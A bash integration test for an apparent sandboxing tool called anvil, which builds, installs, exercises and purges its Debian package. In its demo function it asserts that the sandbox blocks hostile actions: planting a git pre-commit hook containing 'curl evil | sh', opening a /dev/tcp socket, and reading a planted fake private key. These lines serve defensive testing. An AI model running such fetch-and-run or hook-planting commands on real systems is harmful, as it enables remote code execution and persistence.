#!/usr/bin/env bash
# The Debian package end to end (a stage of scripts/test.sh; root, as CI runs it): build it
# with scripts/package.sh (lintian errors fail), install it with apt-get, run the README's main
# job (scripts/demo.sh's steps, with their outcomes checked) from the installed binaries, from
# another directory, as root and as an unprivileged user, check `man -w` and the completions,
# then purge it and check that no file of the package is left.
#   tests/install/package_test.sh
# Environment: ANVIL_JOBS; ANVIL_SKIP_DEPS=1 when scripts/install-deps.sh has run;
#   ANVIL_PACKAGE_PRESET: the build scripts/package.sh packages (release unless set; scripts/test.sh
#   sets dev, the build it has just tested).
set -euo pipefail
cd "$(dirname "$0")/../.."
repo=$PWD
here=$repo/tests/install
[[ $EUID -eq 0 ]] || { echo "package_test.sh: needs root (apt-get install)" >&2; exit 1; }
if dpkg-query -W -f='${db:Status-Abbrev}' anvil 2>/dev/null | grep -q '^ii'; then
  echo "package_test.sh: an anvil package is installed already; this test installs and purges" \
    "its own (apt-get purge anvil first)" >&2
  exit 1
fi
work=$(mktemp -d /tmp/anvil-package-test-XXXXXX)
chmod 755 "$work"
installed=0
cleanup() {
  if ((installed)); then
    DEBIAN_FRONTEND=noninteractive apt-get purge -y -q anvil >/dev/null 2>&1 || true
  fi
  rm -rf "$work"
}
trap cleanup EXIT
passed=0
ok() { passed=$((passed + 1)); printf 'ok   %s\n' "$*"; }
fail() { printf 'FAIL %s\n' "$*" >&2; echo "package: $passed passed, 1 failed"; exit 1; }
# expect STATUS CMD...: runs CMD (its output in $work/out), fails unless it exits STATUS.
expect() {
  local want=$1
  shift
  local got=0
  "$@" >"$work/out" 2>&1 || got=$?
  [[ $got == "$want" ]] || { cat "$work/out" >&2; fail "exit $got, not $want: $*"; }
}

deb=$(scripts/package.sh | tail -n 1)
[[ -f $deb ]] || fail "scripts/package.sh made no package"
version=$(sed -n 's/^project(anvil VERSION \([0-9.]*\).*/\1/p' CMakeLists.txt)
[[ $(basename "$deb") == "anvil_${version}_$(dpkg --print-architecture).deb" ]] \
  || fail "package name $(basename "$deb") (version $version)"
ok "scripts/package.sh: $(basename "$deb"), lintian clean of errors"
# Depends: shared libraries only (dpkg-shlibdeps), nothing the build needed.
depends=$(dpkg-deb -f "$deb" Depends)
for dev in -dev cmake g++ clang; do
  [[ $depends != *"$dev"* ]] || fail "Depends names a build tool: $depends"
done
[[ $depends == *libc6* ]] || fail "Depends: $depends"
ok "Depends: $depends"

cp "$deb" "$work/"
DEBIAN_FRONTEND=noninteractive apt-get install -y -q "$work/$(basename "$deb")" >"$work/apt.log" 2>&1 \
  || { cat "$work/apt.log" >&2; fail "apt-get install ./$(basename "$deb")"; }
installed=1
dpkg-query -L anvil >"$work/files"
ok "apt-get install ./$(basename "$deb")"

anvil=$(command -v anvil) || fail "anvil is not on PATH"
[[ $anvil == /usr/bin/anvil ]] || fail "anvil is $anvil"
expect 0 anvil --version
grep -q "^anvil $version (commit " "$work/out" || fail "anvil --version: $(cat "$work/out")"
cd /
expect 0 anvil doctor
for h in anvil-gateway anvil-gateway-offline anvil-plugin-host anvil-exec-runner anvil-proxy; do
  grep -qF "ok        helper $h: /usr/libexec/anvil/$h" "$work/out" || fail "doctor: $h"
done
ok "anvil doctor: every layer and every helper (/usr/libexec/anvil)"

# The README's main job (scripts/demo.sh), from the installed binaries and examples.
examples=/usr/share/anvil/examples
demo() {  # demo RUNAS: RUNAS is "" (root) or a user name
  local as=$1 base=$work/demo-${1:-root}
  local run=()
  [[ -z $as ]] || run=(runuser -u "$as" --)
  mkdir -p "$base"
  cp -r "$examples/workspace" "$base/ws"
  git -C "$base/ws" init -q
  mkdir -p "$base/outside" && echo "ssh-ed25519 PRIVATE" >"$base/outside/id_ed25519"
  [[ -z $as ]] || chown -R "$as" "$base"
  local env=(env -i PATH=/usr/bin:/bin HOME="$base" XDG_STATE_HOME="$base/state")
  cd "$base/ws"
  expect 0 "${run[@]}" "${env[@]}" anvil run --approve "$examples/plugins/hello-lua" summary
  expect 0 "${run[@]}" "${env[@]}" anvil run --approve "$examples/plugins/notes-js" report
  [[ -s notes/report.md ]] || fail "notes-js wrote no notes/report.md"
  expect 0 "${run[@]}" "${env[@]}" anvil run --approve "$examples/plugins/todo-finder" find-todos
  grep -q '"src/main.c"' "$work/out" || fail "todo-finder found nothing: $(cat "$work/out")"
  expect 0 "${run[@]}" "${env[@]}" anvil audit
  expect 0 "${run[@]}" "${env[@]}" anvil sandbox -- grep -rn TODO .
  expect 0 "${run[@]}" "${env[@]}" anvil sandbox -- sh -c 'echo built > notes/build.txt'
  [[ $(cat notes/build.txt) == built ]] || fail "the sandbox could not write the workspace"
  expect 1 "${run[@]}" "${env[@]}" anvil sandbox -- cat "$base/outside/id_ed25519"
  ! grep -q PRIVATE "$work/out" || fail "a file outside the workspace was read"
  expect 2 "${run[@]}" "${env[@]}" anvil sandbox -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
  [[ ! -e .git/hooks/pre-commit ]] || fail "a git hook was written"
  expect 1 "${run[@]}" "${env[@]}" anvil sandbox -- bash -c 'exec 3<>/dev/tcp/127.0.0.1/22'
  expect 1 "${run[@]}" "${env[@]}" anvil sandbox --policy read-only -- touch notes/x
  [[ ! -e notes/x ]] || fail "read-only policy let a file be made"
  expect 124 "${run[@]}" "${env[@]}" anvil sandbox --timeout 1 --json -- sleep 30
  grep -q '"outcome":"timed_out"' "$work/out" || fail "--json report: $(cat "$work/out")"
  cd /
  ok "the README's main job as ${as:-root}, from another directory"
}
demo ""
if ! id anviltest >/dev/null 2>&1; then
  useradd --no-create-home --shell /usr/sbin/nologin anviltest
fi
demo anviltest

# man pages and completions where each tool looks for them.
for page in anvil anvil-sandbox anvil-run anvil-serve anvil-plugin anvil-audit anvil-rules \
  anvil-doctor; do
  man -w "$page" >/dev/null || fail "man -w $page"
done
ok "man -w anvil (and every subcommand's page)"
# Neovim finds the client on its default package path (/usr/share/nvim/site/pack).
loaded=$(env -i PATH=/usr/bin:/bin HOME="$work" timeout 60 nvim --headless --clean \
  -c 'lua io.stdout:write(tostring(pcall(require, "anvil")) .. " " .. vim.fn.exists(":AnvilRun"))' \
  -c 'qa!' 2>&1) || true
[[ $loaded == "true 2" ]] || fail "Neovim did not load the installed client: $loaded"
ok "Neovim loads the installed client (:AnvilRun)"
bash "$here/completions_test.sh" /usr/share/bash-completion/completions/anvil \
  /usr/share/zsh/vendor-completions /usr/share/fish/vendor_completions.d/anvil.fish \
  || fail "completions of the installed package"
ok "bash, zsh and fish complete from the installed files"

DEBIAN_FRONTEND=noninteractive apt-get purge -y -q anvil >"$work/apt.log" 2>&1 \
  || { cat "$work/apt.log" >&2; fail "apt-get purge anvil"; }
installed=0
! dpkg-query -W -f='${db:Status-Abbrev}' anvil 2>/dev/null | grep -q '^[ic]' \
  || fail "anvil is still known to dpkg: $(dpkg-query -W -f='${db:Status-Abbrev}' anvil)"
left=()
while read -r f; do
  [[ -n $f && $f != /. ]] || continue
  if [[ -d $f && ! -L $f ]]; then
    # A directory may stay only when another package owns it too (/usr/share/man/man1, ...).
    dpkg-query -S "$f" >/dev/null 2>&1 || left+=("$f")
  elif [[ -e $f || -L $f ]]; then
    left+=("$f")
  fi
done <"$work/files"
((${#left[@]} == 0)) || fail "left after purge: ${left[*]}"
ok "apt-get purge anvil left no file of the package"
echo "package: $passed passed, 0 failed"
